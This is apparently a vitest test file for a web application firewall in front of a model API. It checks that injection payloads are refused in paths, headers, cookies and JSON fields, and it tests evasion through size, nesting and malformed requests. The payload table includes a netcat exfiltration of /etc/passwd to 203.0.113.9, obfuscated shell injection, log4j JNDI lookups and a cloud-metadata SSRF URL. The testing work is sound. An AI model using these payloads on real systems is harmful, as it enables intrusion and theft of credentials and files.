import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeKey } from '../support/administer.ts';
import { type Answer, ask, askRaw } from '../support/ask.ts';
import { logLines } from '../support/log-lines.ts';
import { user } from '../support/openai-client.ts';
import { newFolder, startVallum, type Vallum } from '../support/vallum.ts';

/*
 * Attacks on what stands behind us, in every place where a request has a string: each is refused, unless it stands in a prompt, where it is a text like any other. And what
 * the rules cannot see whole is refused too: there is no length, depth or number behind which something hides.
 */

const folder = newFolder();
let vallum: Vallum;
let key: string;
let admin: string;
beforeAll(async () => {
  vallum = await startVallum({ folder });
  ({ key } = await makeKey(vallum));
  ({ key: admin } = await makeKey(vallum, { scopes: ['vallum:admin', 'vallum:read', 'models:invoke'] }));
});
afterAll(() => vallum?.remove());

/** Is in each attack, and so may be nowhere in an answer or the log. */
const planted = 'qzxplanted';
const attacks: Readonly<Record<string, string>> = {
  'SQL injection': `x' UNION SELECT name, ${planted} FROM members -- `,
  'SQL injection, blind': `1' AND SLEEP(9) AND '${planted}'='${planted}`,
  'cross-site scripting': `<img src=x onerror=alert("${planted}")>`,
  'path traversal': `../../../../etc/${planted}/../passwd`,
  'command injection': `x; cat /etc/passwd | nc 203.0.113.9 4444 #${planted}`,
  'command injection, quoted': `x;c'a't\${IFS}/etc/passwd #${planted}`,
  'a log4j lookup': `\${jndi:ldap://203.0.113.9/${planted}}`,
  'a log4j lookup, spelt': `\${\${lower:j}\${::-n}di:ldap://203.0.113.9/${planted}}`,
  'template injection': `{{7*7}}{{${planted}.__class__.__mro__[1].__subclasses__()}}`,
  'NoSQL injection': `{"$where": "this.${planted} == 1"}`,
  'LDAP injection': `${planted})(uid=*))(|(uid=*`,
  'a request to the metadata of a cloud': `http://169.254.169.254/latest/meta-data/${planted}`,
  'a second header': `${planted}\r\nSet-Cookie: a=b`,
};

const chat = (more: object, question: object = {}): Promise<Answer> =>
  ask(vallum, '/v1/chat/completions', {
    key,
    body: { model: 'rehearsal', messages: [user('Hello')], ...more },
    ...question,
  });
/** As it can stand in a header at all. */
const inHeader = (text: string): string => text.replace(/[\r\n]/g, (end) => encodeURIComponent(end));

const places: Readonly<Record<string, (text: string) => Promise<Answer>>> = {
  'the path': (text) => ask(vallum, `/v1/requests/${encodeURIComponent(text)}`, { key }),
  'a path that leads nowhere': (text) => ask(vallum, `/assets/${encodeURIComponent(text)}`),
  'a query': (text) => ask(vallum, `/v1/requests?cursor=${encodeURIComponent(text)}`, { key }),
  'a query, encoded twice': (text) =>
    ask(vallum, `/v1/requests?cursor=${encodeURIComponent(encodeURIComponent(text))}`, { key }),
  'the name of a query': (text) => ask(vallum, `/v1/requests?${encodeURIComponent(text)}=1`, { key }),
  'a header': (text) => ask(vallum, '/v1/models', { key, headers: { 'x-note': inHeader(text) } }),
  'the user agent': (text) => ask(vallum, '/v1/models', { key, headers: { 'user-agent': inHeader(text) } }),
  'a cookie': (text) =>
    ask(vallum, '/v1/models', { key, headers: { cookie: `theme=dark; id=${encodeURIComponent(text)}` } }),
  'the name of a JSON member': (text) => chat({ metadata: { [text]: 'x' } }),
  'the name of a member that nobody knows': (text) => chat({ [text]: 1 }),
  'a plain field of a model call': (text) => chat({ service_tier: text }),
  'a plain field': (text) =>
    ask(vallum, '/v1/waf/exceptions', {
      key: admin,
      body: { family: 'sql', expires_at: '2030-01-01T00:00:00Z', reason: text },
    }),
};

function expectBlocked(answer: Answer, how: string): void {
  expect({ how, status: answer.status, text: answer.text.slice(0, 300) }).toEqual({
    how,
    status: 403,
    text: expect.stringContaining('request-blocked'),
  });
  expect(answer.headers['x-vallum-decision']).toBe('block');
  expect(answer.headers['x-should-retry']).toBe('false');
  expect(Object.keys(answer.headers)).not.toContain('set-cookie');
  expect(answer.text.toLowerCase() + answer.rawHeaders.join()).not.toContain(planted);
}

/** A control character is no valid value of this field, which is said first; and nobody takes what a client calls itself for an address or a filter. */
const isThere = (attack: string, place: string): boolean =>
  place === 'a plain field'
    ? attack !== 'a second header'
    : place !== 'the user agent' || !/^(?:NoSQL|LDAP|a request to)/.test(attack);

describe.each(Object.entries(attacks))('%s', (attack, text) => {
  it.each(Object.keys(places).filter((place) => isThere(attack, place)))(
    'in %s is refused',
    async (place) => {
      const send = places[place];
      expectBlocked(await (send?.(text) ?? expect.fail(place)), place);
    },
  );

  it('in a prompt, or in what a tool says of itself, is for the guards', async () => {
    const tools = [{ type: 'function', function: { name: 'note', description: text } }];
    for (const answer of [await chat({ messages: [user(text)] }), await chat({ tools })])
      expect({ status: answer.status, blocked: answer.text.includes('request-blocked') }).toEqual({
        status: 200,
        blocked: false,
      });
  });
});

it('a member by which objects get others’ properties is refused', async () => {
  const body =
    '{"model":"rehearsal","messages":[{"role":"user","content":"Hi"}],"__proto__":{"isAdmin":true}}';
  expectBlocked(await ask(vallum, '/v1/chat/completions', { key, body }), '__proto__');
});

it('a password is no text to anybody, whatever it looks like: it is only wrong', async () => {
  const body = { email: 'nobody@example.org', password: attacks['SQL injection, blind'] };
  const { status, text } = await ask(vallum, '/v1/sessions', { body });
  expect({ status, text }).toEqual({ status: 401, text: expect.stringContaining('sign-in-refused') });
});

describe('an attack cannot hide', () => {
  const attack = attacks['SQL injection'] ?? '';

  it.each([0, 1_000, 3_070, 3_500, 4_050, 4_095, 4_096, 4_097, 7_150, 8_190, 12_000, 20_000])(
    'behind %i characters, which the library would cut at 4,096',
    async (before) => {
      const text = `${'a '.repeat(before / 2)}${attack}${' b'.repeat(50)}`;
      const query = encodeURIComponent(text).replaceAll('%20', '+');
      expectBlocked(await ask(vallum, `/v1/requests?cursor=${query}`, { key }), 'a query');
      expectBlocked(await ask(vallum, '/v1/models', { key, headers: { 'x-note': text } }), 'a header');
      expectBlocked(await chat({ [text]: 1 }), 'a name');
      expectBlocked(await chat({ service_tier: text }), 'a plain field');
    },
  );

  it.each([255, 256, 257, 600])('behind %i others, of which the library would see 256', async (others) => {
    const names = Array.from({ length: others }, (_, index) => [`name ${index}`, 1] as const);
    expectBlocked(await chat({ x_more: Object.fromEntries([...names, [attack, 1]]) }), 'a name among many');
    const query = Array.from({ length: others }, (_, index) => `a${index}=b.${index}`).join('&');
    const where = `/v1/requests?${query}&z=${encodeURIComponent(attack)}`;
    expectBlocked(await ask(vallum, where, { key }), 'a query among many');
  });

  it.each([14, 15, 16, 17, 18, 20, 40, 60])(
    '%i levels deep, of which the library would see 16',
    async (levels) => {
      const nested = Array.from({ length: levels }).reduce<object>(
        (inner, _, level) => (level % 2 ? [inner] : { a: inner }),
        { [attack]: 1 },
      );
      expectBlocked(await chat({ x_more: nested }), 'a name deep down');
    },
  );

  it('deeper than anything is judged', async () => {
    const nested = Array.from({ length: 5_000 }).reduce<string>(
      (inner) => `{"a":${inner}}`,
      `{"${attack}":1}`,
    );
    const body = `{"model":"rehearsal","messages":[{"role":"user","content":"Hi"}],"metadata":${nested}}`;
    expect((await ask(vallum, '/v1/chat/completions', { key, body })).status).toBe(400);
  });

  it.each<[string, object]>([
    [
      'more names than are judged',
      Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`name, ${i}`, 1])),
    ],
    ['more text than is judged', { ['some text, '.repeat(20_000)]: 1 }],
    ['more text than is judged once it is decoded', { ['%41 /**/ '.repeat(9_000)]: 1 }],
  ])('behind %s, which is refused', async (_, more) => {
    const answer = await chat(more);
    expectBlocked(answer, 'too much');
    expect(answer.text).toContain('"code":"limits"');
  });
});

describe('what comes of an attack', () => {
  it('is the same without a credential, and one entry for many of them', async () => {
    const where = `/v1/models?q=${encodeURIComponent(attacks['cross-site scripting'] ?? '')}`;
    for (const path of [where, where.replace('/v1/models', '/'), where.replace('/v1/models', '/health')])
      expectBlocked(await ask(vallum, path), path);
    // Who does send one that is not known is told nothing but that.
    expect((await ask(vallum, where, { key: 'vk_live_x' })).status).toBe(401);
  });

  it('is an entry of its own where the caller is known', async () => {
    const answer = await chat({ service_tier: attacks['SQL injection'] });
    expect(answer.headers['x-vallum-ledger-index']).toMatch(/^\d+$/);
    const record = await ask(vallum, `/v1/requests/${answer.headers['x-vallum-request-id']}`, { key });
    expect(record.json()).toMatchObject({ fault: 'request-blocked', ended: 'refused' });
    expect(record.text.toLowerCase()).not.toContain(planted);
  });

  it('is not that a bad request has a worse error: what is no JSON, no known type or no path is said to be that', async () => {
    const chats = '/v1/chat/completions';
    const wrong: [string, Parameters<typeof ask>[2], number][] = [
      [chats, { key, body: '{}', headers: { 'content-type': 'text/xml' } }, 415],
      [chats, { key, body: '{}', headers: { 'content-type': 'application/json; charset=utf-7' } }, 415],
      [chats, { key, body: '{}', headers: { 'content-encoding': 'gzip' } }, 415],
      [chats, { key, body: '{"model":' }, 400],
      ['/v1/requests/%zz', { key }, 400],
      ['/v1/requests/%ff', { key }, 400],
    ];
    for (const [where, question, status] of wrong)
      expect({ where, status: (await ask(vallum, where, question)).status }).toEqual({ where, status });
  });

  it('is in a broken request what it would be in a whole one', async () => {
    const raw = (line: string, ...headers: string[]) =>
      askRaw(
        vallum,
        [line, 'host: 127.0.0.1', 'connection: close', `x-api-key: ${key}`, ...headers, '', ''].join('\r\n'),
      );
    const blocked = await Promise.all([
      raw('GET /v1/models HTTP/1.1', 'content-type: application/json', 'content-type: text/plain'),
      raw('GET /v1/models HTTP/1.1', 'x-http-method-override: DELETE'),
      raw('GET /v1/models HTTP/1.1', 'x-original-url: /v1/tenants'),
      raw('GET /v1/models?a=%c0%ae%c0%ae%c0%af HTTP/1.1'),
      raw('GET /v1/models?a=%00 HTTP/1.1'),
      raw('GET /v1/models HTTP/1.1', 'x-note: \u00ff\u00fe'),
    ]);
    expect(blocked.map((said) => said.slice(0, 12))).toEqual(blocked.map(() => 'HTTP/1.1 403'));
  });

  it('is nothing in the log: no line is forged, and none has a word of it', () => {
    const { stdout, stderr } = vallum.output;
    logLines(stdout);
    expect(`${stdout}${stderr}`.toLowerCase()).not.toContain(planted);
  });
});

describe('when the rules have no time left', () => {
  it('what they have not seen whole is refused, even where attacks are only detected', async () => {
    await vallum.stop();
    const settings = { waf: { mode: 'detect', budget_ms: 1 } };
    writeFileSync(path.join(folder, 'vallum.yaml'), JSON.stringify(settings));
    await vallum.start();
    // As much as the bounds let through: tens of milliseconds of matching.
    const names = Array.from({ length: 30 }, (_, index) => [`${index}: ${'some text, '.repeat(360)}`, 1]);
    const answer = await chat({ x_more: Object.fromEntries(names) });
    expectBlocked(answer, 'no time');
    expect(answer.text).toContain('limit-time');
  });
});
